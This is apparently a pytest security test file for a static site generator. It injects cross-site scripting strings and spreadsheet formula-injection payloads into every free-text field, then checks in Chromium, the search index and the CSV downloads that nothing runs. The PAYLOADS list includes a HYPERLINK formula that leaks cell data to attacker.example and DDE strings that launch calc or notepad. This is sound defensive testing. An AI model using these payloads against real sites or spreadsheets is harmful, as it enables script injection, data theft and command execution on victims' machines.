"""Broken and hostile input never reaches the public site.

Every text field of every input kind gets HTML, script, javascript: links,
Markdown that breaks out of a table and template syntax; the built site is then
opened in real Chromium, where no dialog may open and no injected script may run.
Every case of the bad-input corpus goes through `progress-pages build` against an
existing site, which must stay byte-identical. The figures are printed.
"""
from __future__ import annotations

import csv
import json
import os
import shutil
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from browsertools import chromium, served
from conftest import ENGINES, ROOT, need_engine
from generator.cli import main
from generator.model import INPUT_FILES
from generator.model.docs import _kind, _models_in
from generator.write.spreadsheet_safe import FORMULA_STARTS
from sitebuild import build_example, build_with, copy_of, differences, site_copy, tree_digest

sys.path.insert(0, str(Path(__file__).parent.parent / "corpus"))
from cases import CASES, place  # noqa: E402

PAYLOADS = [
    "<script>window.__pwned=1;alert(1)</script>",
    '<img src=x onerror="window.__pwned=1;alert(2)">',
    "[click me](javascript:window.__pwned=1)",
    '<svg onload="window.__pwned=1"></svg>',
    '<div onclick="window.__pwned=1">raw block</div>',
    "a | b | <b>bold</b> | c",
    "{{ 7*7 }} {% if true %}jinja{% endif %} ${x}",
    '<a href="javascript:window.__pwned=1">link</a>',
    # Formulas, which a spreadsheet would run from a CSV download (OWASP's CSV injection).
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
TEXT_KINDS = {"text", "one line of text", "list of text", "list of one line of text"}


# Free text that must still match something: a status or impact id, an email address, a
# contact that must appear word for word in its item, a file name, column names of a CSV file.
NOT_FREE = {("ActionUpdate", "status"), ("PriorityUpdate", "impact"), ("Target", "impact"), ("Contact", "email"),
            ("PublicContact", "text"), ("Branding", "logo"), ("Measure", "comparators")}
# Free texts with rules of their own: an Easy Read sentence is short and has no
# abbreviations, so it carries one payload at a time.
SHORT_TEXTS = {("EasyReadPoint", "text")}


def poison(data, model, counter: list[int]):
    """Put the payloads into every free-text field of `data`, which `model` describes.
    (Ids, dates, links, colours and words from a fixed list are checked so strictly
    that text cannot get into them.)"""
    if not isinstance(data, dict):
        return data
    out = {}
    for key, value in data.items():
        info = model.model_fields.get(key)
        if info is None:
            out[key] = value
            continue
        kind = _kind(info.annotation, info.metadata)
        if (model.__name__, key) in SHORT_TEXTS:
            out[key] = _short_payload(counter)
            continue
        if kind in TEXT_KINDS and (model.__name__, key) not in NOT_FREE and isinstance(value, (str, list)):
            out[key] = _payload(value, counter)
            continue
        inner = _models_in(info.annotation)
        if len(inner) == 1 and isinstance(value, dict) and kind.startswith("map from"):
            out[key] = {k: poison(v, inner[0], counter) for k, v in value.items()}
        elif len(inner) == 1 and isinstance(value, list):
            out[key] = [poison(v, inner[0], counter) for v in value]
        elif len(inner) == 1:
            out[key] = poison(value, inner[0], counter)
        else:
            out[key] = value
    return out


def _short_payload(counter):
    """One payload that an Easy Read sentence may hold (no word in capitals)."""
    counter[0] += 1
    fits = [p for p in PAYLOADS if not any(sum(c.isupper() for c in w) >= 2 for w in p.split())]
    return fits[counter[0] % len(fits)]


def _payload(value, counter):
    counter[0] += 1
    text = f"{PAYLOADS[counter[0] % len(PAYLOADS)]} {PAYLOADS[(counter[0] + 3) % len(PAYLOADS)]} ({counter[0]})"
    return [text] if isinstance(value, list) else text


def model_for(path: Path, plans: Path):
    name = path.relative_to(plans.parent).as_posix()
    for pattern, model in INPUT_FILES.items():
        parts, candidate = pattern.split("/"), name.split("/")
        if len(parts) == len(candidate) and all(
                p == c or (p.startswith("<") and c.endswith(".yaml") == p.endswith(".yaml"))
                for p, c in zip(parts, candidate, strict=True)):
            return model
    return None


@pytest.fixture(scope="module")
def hostile_plans(tmp_path_factory) -> tuple[Path, int]:
    plans = tmp_path_factory.mktemp("in") / "plans"
    shutil.copytree(ROOT / "plans", plans)
    counter = [0]
    kinds = set()
    for path in sorted(plans.rglob("*.yaml")):
        model = model_for(path, plans)
        assert model is not None, path
        kinds.add(model.__name__)
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        path.write_text(yaml.safe_dump(poison(data, model, counter), sort_keys=False, allow_unicode=True),
                        encoding="utf-8")
    assert kinds == {m.__name__ for m in INPUT_FILES.values()}, "every input kind is poisoned"
    return plans, counter[0]


@pytest.fixture(scope="module")
def hostile_site(hostile_plans, tmp_path_factory) -> tuple[Path, int]:
    plans, fields = hostile_plans
    return build_example(tmp_path_factory.mktemp("hostile"), plans), fields


@pytest.fixture(scope="module", params=ENGINES)
def hostile_engine_site(request, hostile_plans, tmp_path_factory) -> tuple[Path, int]:
    """The hostile site from each engine: what comes after the engine keeps it inert."""
    if request.param == "mkdocs":
        return request.getfixturevalue("hostile_site")
    need_engine(request.param)
    plans, fields = hostile_plans
    return build_with(request.param, tmp_path_factory.mktemp(f"hostile-{request.param}"), plans), fields


def injections(site: Path) -> tuple[int, list[str]]:
    """Open every page; list the injections that ran: dialogs that opened, pages where
    an injected script set window.__pwned, and javascript: links waiting to be clicked."""
    found: list[str] = []
    files = sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))
    with served(site) as base, chromium(base) as tab:
        tab.page.on("dialog", lambda d: (found.append(f"dialog: {d.message}"), d.dismiss()))
        for path in files:
            tab.open(path)
            if tab.page.evaluate("window.__pwned === 1"):
                found.append(f"{path}: an injected script ran")
            for link in tab.page.query_selector_all("a[href^='javascript' i]"):
                found.append(f"{path}: {link.get_attribute('href')}")
    return len(files), found


@pytest.fixture(scope="module")
def executed(hostile_engine_site) -> tuple[int, int, list[str]]:
    pages_opened, found = injections(hostile_engine_site[0])
    return pages_opened, len(found), found


def test_the_injection_check_can_fail(tmp_path):
    (tmp_path / "index.html").write_text(
        '<!doctype html><title>x</title><img src=x onerror="window.__pwned=1">'
        '<script>alert(1)</script><a href="javascript:void(0)">x</a>')
    _, found = injections(tmp_path)
    assert len(found) == 3, found


def test_hostile_text_shows_as_text_and_never_runs(hostile_engine_site, executed):
    site, fields = hostile_engine_site
    assert fields >= 100  # every text field of every input kind carries the payloads
    pages_opened, ran, what = executed
    assert pages_opened == len(list(site.rglob("*.html"))) >= 15
    assert ran == 0, "\n".join(what)
    home = (site / "index.html").read_text()
    assert "&lt;script&gt;window.__pwned=1" in home or "&#60;script&#62;" in home


def test_properdocs_builds_the_hostile_site_mkdocs_builds(hostile_plans, tmp_path):
    """So it is as inert (the browser checks run on the engines whose sites differ)."""
    need_engine("properdocs")
    plans = hostile_plans[0]
    sites = [build_with(engine, tmp_path / engine, plans) for engine in ("mkdocs", "properdocs")]
    assert differences(*sites) == []


# The search index is made from the pages before the sanitiser (generator/finish) sees
# them, and the search box shows its text as HTML: escaping alone must keep it inert.
SEARCH_INDEX = {"mkdocs": "search/search_index.json", "zensical": "search.json"}
RUNS = {"script", "img", "svg", "iframe", "object", "embed", "form", "input", "style", "link", "meta"}


class _Runnable(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        if tag in RUNS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")


def runnable(index_file: Path) -> tuple[int, list[str]]:
    """Strings of a search index, and what in them a browser could run shown as HTML."""
    def strings(value):
        if isinstance(value, str):
            yield value
        elif isinstance(value, dict | list):
            for item in value.values() if isinstance(value, dict) else value:
                yield from strings(item)

    parser, count = _Runnable(), 0
    for text in strings(json.loads(index_file.read_text(encoding="utf-8"))):
        count += 1
        parser.feed(text)
        parser.close()
        parser.reset()
    return count, parser.found


def test_the_search_index_check_can_fail(tmp_path):
    (tmp_path / "index.json").write_text(json.dumps(
        {"docs": [{"text": '<p>ok</p><img src=x onerror="alert(1)"><a href="javascript:x">a</a>'}]}))
    assert len(runnable(tmp_path / "index.json")[1]) == 3


def test_hostile_text_is_inert_in_the_search_index(hostile_engine_site, request):
    engine = request.node.callspec.params["hostile_engine_site"]
    strings, found = runnable(hostile_engine_site[0] / SEARCH_INDEX[engine])
    assert strings >= 100
    assert found == []


def formulas(site: Path) -> tuple[int, list[str]]:
    """Cells of the site's CSV downloads that a spreadsheet would run as formulas."""
    files = sorted(site.rglob("*.csv"))
    found = [f"{path.relative_to(site)}: {cell[:40]}" for path in files
             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines())
             for cell in row if cell.startswith(FORMULA_STARTS)]
    return len(files), found


def test_the_formula_check_can_fail(tmp_path):
    (tmp_path / "a.csv").write_text('title,note\n=1+1,"@SUM(A1)"\nok,fine\n')
    assert formulas(tmp_path) == (1, ["a.csv: =1+1", "a.csv: @SUM(A1)"])


def test_hostile_text_never_becomes_a_formula_in_a_download(hostile_site):
    site, _ = hostile_site
    files, found = formulas(site)
    assert files >= 4  # the plan, the measures, each measure's figures, the feedback
    assert found == []
    assert "'=HYPERLINK(" in (site / next(p.relative_to(site).as_posix() for p in site.rglob("*.csv")
                                          if "HYPERLINK" in p.read_text())).read_text()


@pytest.fixture(scope="module")
def corpus_builds(example_project, tmp_path_factory) -> tuple[int, int, int, dict[str, int]]:
    """Every corpus case through `progress-pages build` over an existing good site:
    (cases tried, tracebacks, sites changed, cases of each class)."""
    from test_corpus import BASE

    root = copy_of(example_project, tmp_path_factory.mktemp("corpus"))
    runner = CliRunner()
    tracebacks = changed = 0
    old = os.getcwd()
    os.chdir(root)
    try:
        before = tree_digest(root / "site")
        for case in CASES:
            if (root / "plans").is_symlink():
                (root / "plans").unlink()
            else:
                shutil.rmtree(root / "plans")
            place(root, {**BASE, **case.files})
            result = runner.invoke(main, ["build"])
            if result.exception is not None and not isinstance(result.exception, SystemExit):
                tracebacks += 1
            if result.exit_code != 1 or tree_digest(root / "site") != before:
                changed += 1
    finally:
        os.chdir(old)
    kinds: dict[str, int] = {}
    for case in CASES:
        kinds[case.kind] = kinds.get(case.kind, 0) + 1
    return len(CASES), tracebacks, changed, kinds


def test_no_bad_input_publishes_anything_or_crashes(corpus_builds):
    tried, tracebacks, changed, _ = corpus_builds
    assert tried >= 60
    assert tracebacks == 0
    assert changed == 0


def test_figures(corpus_builds, executed, hostile_site, capsys):
    tried, tracebacks, changed, kinds = corpus_builds
    pages, ran, _ = executed
    downloads, found = formulas(hostile_site[0])
    classes = ", ".join(f"{n} {k}" for k, n in kinds.items())
    with capsys.disabled():
        print(f"\nhardening: {tried} bad inputs tried ({classes}), {tracebacks} tracebacks, "
              f"{ran} injections executed in {pages} pages, {len(found)} formulas in {downloads} CSV "
              f"downloads, {changed} partial sites published")
    assert (tracebacks, ran, len(found), changed) == (0, 0, 0, 0)
